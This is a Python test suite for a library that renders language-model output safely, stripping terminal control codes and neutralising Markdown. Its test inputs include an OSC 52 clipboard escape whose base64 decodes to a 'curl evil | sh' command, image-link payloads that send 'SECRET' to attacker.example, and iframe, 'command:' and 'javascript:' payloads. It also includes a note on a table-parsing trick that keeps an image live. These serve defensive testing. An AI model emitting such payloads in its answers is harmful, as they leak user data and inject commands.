"""What the model writes is shown as text: no control codes in terminals and logs, nothing active in Markdown."""

from __future__ import annotations

import io
import logging
import re

from hypothesis import given
from hypothesis import strategies as st

from gptls.redaction import protect
from gptls.text.shown import code_block, markdown_text, plain
from tests.markdown import active, html

OSC52 = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"


def test_escape_sequences_are_made_visible() -> None:
    shown = plain(f"O(n){OSC52} and \x9b31m red \x7f")
    assert "\x1b" not in shown and "\x07" not in shown and "\x9b" not in shown and "\x7f" not in shown
    assert "\\x1b]52;c;" in shown
    assert plain("a\tb\nc\r\nd") == "a\tb\nc\r\nd"
    assert plain("over\rwrite") == "over\\x0dwrite"


@given(st.text())
def test_no_control_character_survives(text: str) -> None:
    assert not re.search(r"[\x00-\x08\x0b-\x0c\x0e-\x1f\x7f-\x9f]", plain(text))


def test_log_lines_carry_no_escape_sequences() -> None:
    stream = io.StringIO()
    handler = protect(logging.StreamHandler(stream))
    logger = logging.getLogger("gptls.test.shown")
    logger.addHandler(handler)
    try:
        logger.warning("the model said %s", OSC52)
    finally:
        logger.removeHandler(handler)
    assert "\x1b" not in stream.getvalue() and "\\x1b]52" in stream.getvalue()


ATTACKS = [
    "![x](https://attacker.example/img?d=SECRET)",
    "[click](https://attacker.example/)",
    "<img src=https://attacker.example/a.png>",
    "<https://attacker.example/auto>",
    "see https://attacker.example/bare and www.attacker.example and user@attacker.example",
    "[ref]\n\n[ref]: https://attacker.example/r",
    "![a][b]\n\n[b]: https://attacker.example/i.png",
    "`unclosed ![x](https://attacker.example/u)",
    "``` \n![x](https://attacker.example/in-fence)\n",
    "<details><summary>x</summary><iframe src=https://attacker.example></iframe></details>",
    "&lt;img src=x&gt; &#x3C;img&#x3E;",
    "[x](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22id%22%7D)",
    "\\![x](https://attacker.example/escaped)",
    # A GFM table whose cell holds a code span with a pipe: the table rule splits the span, its backticks no
    # longer pair, and the image after it would be live (markdown-it and marked both split on every pipe).
    "| a | b |\n|---|---|\n| `x|y` ![i](https://attacker.example/?d=SECRET) | z |",
    "a | b\n--|--\n`|` ![i](https://attacker.example/t) | c",
    "text```\n![x](https://attacker.example/midline)\n```",
]


def test_markdown_keeps_nothing_that_loads_links_or_renders_html() -> None:
    # The renderer finds what it should: the table attacks are live as the model wrote them.
    assert all(active(attack) for attack in ATTACKS if attack.startswith(("|", "a |")))
    for attack in ATTACKS:
        rendered = markdown_text(attack)
        assert active(rendered) == [], (attack, rendered)


# Pieces a hostile answer mixes: table rows and delimiter rows, code spans holding pipes, reference definitions,
# autolinks, bare URLs and addresses, entities, raw HTML, fences of both kinds, escapes and line structure.
PIECES = [
    "| a | b |",
    "|---|---|",
    "--|--",
    "`x|y`",
    "``",
    "`",
    "|",
    "![i](https://a.example/i)",
    "[l](https://a.example)",
    "[r]",
    "[r]: https://a.example/r",
    "![r]",
    "<https://a.example>",
    "<a@b.example>",
    "https://a.example/x",
    "www.a.example",
    "a@b.example",
    "&lt;",
    "&#x3C;img&#x3E;",
    "&amp;",
    "<img src=x>",
    "<!-- c -->",
    "</div>",
    "<div>",
    "```",
    "~~~",
    "````md",
    "\\",
    "\\[",
    "*",
    "_",
    "#",
    "> ",
    "1. ",
    "- ",
    "    ",
    "\t",
    "\n",
    "\n\n",
    "x",
    " ",
    "(",
    ")",
    "[",
    "]",
    "!",
    "<",
    ">",
    "javascript:alert(1)",
    "command:x",
    "data:image/png,x",
]


@given(st.lists(st.sampled_from(PIECES) | st.text(max_size=6), max_size=30).map("".join))
def test_no_generated_markdown_isactive(text: str) -> None:
    assert active(markdown_text(text)) == []


def test_prose_reads_the_same_and_code_stays_code() -> None:
    shown = html(markdown_text("Uses `dict[str, int]` and is **O(n)**.\n\n```python\nx = [1] < 2\n```\nDone."))
    # Every character the model wrote is shown as it wrote it; its code block is a code block.
    assert "Uses `dict[str, int]` and is **O(n)**." in shown
    assert "<pre><code>x = [1] &lt; 2\n</code></pre>" in shown and shown.rstrip().endswith("<p>Done.</p>")


def test_a_code_block_cannot_be_closed_from_inside() -> None:
    block = code_block("a\n````\n![x](https://attacker.example/i)")
    assert block.startswith("`````\n") and block.endswith("\n`````\n")
    assert active(block) == []
